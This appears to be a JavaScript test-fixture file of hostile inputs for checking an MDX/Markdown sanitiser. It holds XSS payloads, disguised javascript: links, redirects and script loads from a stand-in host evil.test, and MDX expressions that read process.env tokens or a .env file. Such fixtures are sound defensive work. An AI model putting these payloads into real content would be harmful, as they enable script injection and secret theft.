/** What the tests of safety try, after the experiments in the security notes (code, markup, links). */

const scripts = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'vbscript:x',
  'data:text/html,x',
  'file:///etc/passwd',
  'blob:https://a.b/c',
];
const disguised = [
  'java&#115;cript:x',
  'javascript&colon;x',
  '&#x6A;avascript:x',
  'java&Tab;script:x',
  'java&NewLine;script:x',
  '&#1;javascript:x',
];
const elsewhere = [
  '//evil.test',
  '/\\evil.test',
  '\\\\evil.test',
  'https://gov.cn@evil.test/',
  'https://a:b@evil.test/',
  'https:evil.test',
  'https:///x',
];
const odd = [
  'view-source:x',
  'intent://x',
  'x-custom:y',
  'evil.test',
  'javascript%3Aalert(1)',
  'https://evil',
  'about:blank',
  'mailto:',
  'ht&Tab;tps://a.b',
];
const targets = [...scripts, ...disguised, ...elsewhere, ...odd];

/** Markup that is not on the list of components. */
export const elements = [
  '<script>alert(1)</script>',
  '<script src="https://evil.test/x.js"></script>',
  '<style>{`body{display:none}`}</style>',
  '<iframe src="javascript:alert(1)"/>',
  '<iframe srcdoc="&lt;script>x&lt;/script>"/>',
  '<object data="javascript:x"/>',
  '<embed src="x.swf"/>',
  '<svg onload="alert(1)"/>',
  '<svg><foreignObject><a href="javascript:x">y</a></foreignObject></svg>',
  '<math><a href="javascript:x">y</a></math>',
  '<img src="x" onerror="alert(1)"/>',
  '<img src="x" onError="alert(1)"/>',
  '<p ONCLICK="alert(1)">x</p>',
  '<p style="position:fixed">x</p>',
  '<form action="https://evil.test/"><button formaction="javascript:x">y</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.test"/>',
  '<base href="//evil.test/"/>',
  '<link rel="stylesheet" href="//evil.test/x.css"/>',
  '<template shadowrootmode="open">x</template>',
  '<title>x</title>',
  '<dialog open>x</dialog>',
  '<a ping="//evil.test" href="/">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<p id="search" name="x" class="y" slot="z" is="w">x</p>',
  '<my-element/>',
  '<p set:html="<img src=x onerror=alert(1)>"/>',
  '<Fragment set:html="<script>x</script>"/>',
  '<Callout type="note" set:html="<script>x</script>">\n\n甲\n\n</Callout>',
  '<Callout type="note" onclick="alert(1)" style="x" class="y">\n\n甲\n\n</Callout>',
  '<Callout type="note" dangerouslySetInnerHTML={{__html: "x"}}>\n\n甲\n\n</Callout>',
  '<Stats client:load server:defer/>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"/></noscript>',
  '<>甲</>',
  '<constructor/>',
  '<__proto__/>',
  '<hasOwnProperty/>',
  '<toString>x</toString>',
  '<Callout.x/>',
  '<components.Callout type="note"/>',
  '<xlink:href/>',
  '<svg:script>x</svg:script>',
  '<stat id="x"/>',
];

/** What MDX would run. */
export const code = [
  "import fs from 'node:fs'",
  'export const x = 1',
  'export default 1',
  "{process.getBuiltinModule('node:fs')}",
  '{process.env.DEPLOY_TOKEN}',
  `a $\{process.env.HOME} b`,
  '{/* 批注 */}',
  '{}',
  '甲 {1}{2}',
  '## 标题 {#id}',
  '|{1}|\n|-|',
  '[{1}](/reports/)',
  '<Callout type="note" title={process.env.TOKEN}>\n\n甲\n\n</Callout>',
  '<Callout type="note" {...{title: "x"}}>\n\n甲\n\n</Callout>',
  '<Stat id={"x"}/>',
  '<Stat {...x} id="y"/>',
];

/** Pictures out of place, and what does not parse. */
export const other = [
  '![x](./evil.mjs)',
  '![x](../../../.env?raw)',
  '![x](https://a.b/100%.png)',
  '![x][r]\n\n[r]: ./evil.mjs',
  '<Figure src="../../x.png" alt="x"/>',
  '<Figure src="https://evil.test/x.png" alt="x"/>',
  '<Figure src="./e.svg" alt="x"/>',
  '<Figure src="./a.jpg?raw" alt="x"/>',
  '<!-- x -->',
  '<!DOCTYPE html>',
  '<?php x ?>',
  '<![CDATA[x]]>',
  '<a href=x>y</a>',
  '<b>x',
  '<https://evil.test>',
];

/** Links to targets that may reach no reader, in every place where Markdown has links. */
export const linked = targets.flatMap((target) => [
  `[x](${target})`,
  `[x](<${target}>)`,
  `[x][r]\n\n[r]: ${target}`,
  `甲[^1]\n\n[^1]: [x](${target})`,
  `|[x](${target})|\n|-|`,
  `## [x](${target})`,
]);
